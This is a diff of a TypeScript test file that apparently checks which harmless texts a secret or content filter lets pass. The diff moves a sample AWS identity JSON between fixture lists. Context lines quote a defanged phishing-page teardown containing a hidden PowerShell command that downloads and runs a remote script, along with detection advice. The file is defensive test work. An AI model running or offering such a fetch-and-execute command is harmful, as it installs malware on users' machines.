@@ -16,6 +16,10 @@ const DOCUMENTATION: [string, string][] = [
     'The role may read it:\n\n```json\n{"ARN": "arn:aws:secretsmanager:us-west-2:123456789012:secret:prod/db-1a2b3c4D5e"}\n```',
   ],
   [
+    'who one is in an AWS account',
+    ['{"UserId": "AROAJHQ2ZV4T', 'STIDQ7KXA:i-0abc", "Account": "738120459266"}'].join(''),
+  ],
+  [
     'the account of AWS examples',
     '```json\n{"KeyMetadata": {"AWSAccountId": "111122223333", "MultiRegion": true}}\n```',
   ],
@@ -66,13 +70,7 @@ powershell -w hidden -enc <base64 of: iwr hxxp://[redacted]/a.ps1 | iex>
 Indicators: clipboard write without user gesture, title "One more step". Block mshta and powershell as children of explorer.`
 
 /** Nothing in these is hidden, though a moderator may look at them. */
-const PUBLIC: [string, string][] = [
-  ['what a phishing page does', TEARDOWN],
-  [
-    'who one is in an AWS account',
-    ['{"UserId": "AROAJHQ2ZV4T', 'STIDQ7KX:i-0abc", "Account": "738120459266"}'].join(''),
-  ],
-]
+const PUBLIC: [string, string][] = [['what a phishing page does', TEARDOWN]]
 
 describe('honest texts', () => {
   it.each(DOCUMENTATION)('lets %s pass', (_what, text) => {
